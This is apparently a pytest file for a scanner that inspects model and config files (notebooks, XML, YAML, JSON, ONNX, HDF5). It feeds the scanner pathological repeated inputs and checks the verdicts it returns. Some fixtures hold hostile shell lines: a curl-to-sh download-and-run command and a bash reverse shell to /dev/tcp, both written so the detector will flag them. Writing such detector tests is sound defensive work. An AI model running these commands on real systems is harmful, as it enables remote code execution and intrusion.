"""Texts made so that a pattern reads them again from every place: each ends in a verdict at once.

None of these is timed: where a pattern goes back over what it has read, the smallest of them takes hours.
"""

import json

import pytest
from making import hdf5s, onnx_models
from making.protobufs import body, number
from scanning import ids, scanned


def notebook(source):
    """A notebook of one code cell."""
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": source}]}).encode()


WORDS = 20_000
TEXTS = {
    "a line of blanks in a cell": (notebook(" " * 10 * WORDS), "a.ipynb"),
    "blanks and words in a cell": (notebook("a, " * WORDS), "a.ipynb"),
    "comments without a root": (b"<!---->" * WORDS + b"<x><layers/></x>", "a.xml"),
    "comments before layers": (b"<layers>" + b"<!-- " * 10_000, "a.xml"),
    "downloads that are not run": (b"exec(\n" + b"curl " * WORDS, "a.py"),
    "empty lines in broken YAML": (b"a: [!x ]]\n" + b"\n" * WORDS, "a.yaml"),
    "hyphens in a name of code": (
        json.dumps({"model_type": "x", "auto_mapping": "a/" + "--." * WORDS}).encode(),
        "c.json",
    ),
    "installers that install nothing": (b"import os\nos.system('" + b"pip " * 20_000 + b"')", "a.py"),
    "netcats with letters behind": (b"exec(\n" + b"nc -" + b"x" * 5 * WORDS, "a.py"),
    "steps upwards": (json.dumps({"weight_map": {"a": "a../" * WORDS}}).encode(), "c.json"),
    "brackets in a template": (b"{{ " + b"{% " * 20_000, "a.j2"),
    "entities of one letter": (b"<!DOCTYPE a [" + b"<!ENTITY % " * 20_000, "a.xml"),
    "includes that include nothing": (
        b"<a xmlns:x='http://www.w3.org/2001/XInclude'>" + b"<include " * 20_000,
        "a.xml",
    ),
    "numbers without end": (b"{" + b'"model_type": ' + b"1" * WORDS + b"}", "c.json"),
    "quotes that are escaped": (b'{"model_type": "' + b'\\"' * 3 * WORDS, "c.json"),
    "dots in a target": (b"_target_: " + b"a." * WORDS + b"!", "a.yaml"),
    "columns of a tree": (b"tree\nversion=v4\n" + b"Tree=" * WORDS, "m.txt"),
}


@pytest.mark.parametrize("which", sorted(TEXTS))
def test_a_text_of_one_word_again_and_again_has_a_verdict(which):
    """Whatever is repeated a hundred thousand times, reading ends and no reader fails."""
    data, name = TEXTS[which]
    assert "file.reader-failed" not in ids(scanned(data, name))


@pytest.mark.parametrize("length", [10, 1500])
def test_what_stands_between_a_download_and_its_shell_may_be_long(length):
    """An address as long as any browser takes hides no shell behind it."""
    code = f"import os\nos.system('curl http://example.org/{'a' * length} | sh')\n"
    assert set(ids(scanned(code.encode(), "a.py"))) == {"python.hidden-code", "python.shell-payload"}


@pytest.mark.parametrize(
    ("text", "verdict"),
    [("a: [\n_target_: x.y", "unread"), ("a: [\n  - _target_ : x.y", "unread"), ("a: [\n  a_target_: x.y !", "clean")],
)
def test_targets_in_broken_yaml_are_not_lost(text, verdict):
    """At the start of a line, in a list or not, a target makes a broken file unread."""
    assert scanned(text.encode(), "a.yaml").verdict == verdict


@pytest.mark.parametrize(("length", "wanted"), [(1000, []), (1001, ["transformers.custom-code"])])
def test_a_name_of_a_class_has_a_length(length, wanted):
    """What is longer than any name is told without being looked at as one."""
    assert ids(scanned(json.dumps({"auto_mapping": {"a": "b" * length}}).encode(), "adapter_config.json")) == wanted


def test_only_the_first_sizes_of_a_tensor_are_read():
    """Millions of sizes in one packed field cost no more than the sixty-four that a tensor may have."""
    tensor = body(1, b"\x02" * 3_000_000) + number(2, 1) + body(8, "w")
    found = scanned(onnx_models.model(onnx_models.graph(onnx_models.node()) + body(5, tensor)))
    assert ids(found) == ["onnx.impossible-shape"]


@pytest.mark.parametrize("piece", ["{[]}:", "{{}: 1}:", "{1: []}:", ":[]", "::'a'", "a:", "1 + 2j:"])
def test_slices_of_anything_are_worked_out_or_not(piece):
    """A text cut by what is no number stays unknown, and the reader goes on to the next call."""
    code = f"import os\nos.system('abc'[{piece}])\nos.system('bash -i >& /dev/tcp/1.1.1.1/1')\n"
    assert set(ids(scanned(code.encode(), "a.py"))) == {"python.hidden-code", "python.shell-payload"}


@pytest.mark.parametrize(("kind", "size"), [(5, 1), (5, 4), (8, 0)])
def test_records_of_an_index_that_have_no_room_for_an_object_make_it_unread(kind, size):
    """A record shorter than the place of its heap id names nothing."""
    writer = hdf5s.Writer()
    message = 2 if kind == 5 else 0x15
    _, data = writer.dense(message, hdf5s.hard_link("a", 48)[1])
    writer.data[writer.data.index(b"BTHD") + 10 : writer.data.index(b"BTHD") + 12] = size.to_bytes(2, "little")
    found = scanned(writer.done(writer.header((message, data))))
    assert [each.evidence for each in found.findings] == ["as hdf5: an index is of an unknown kind"]
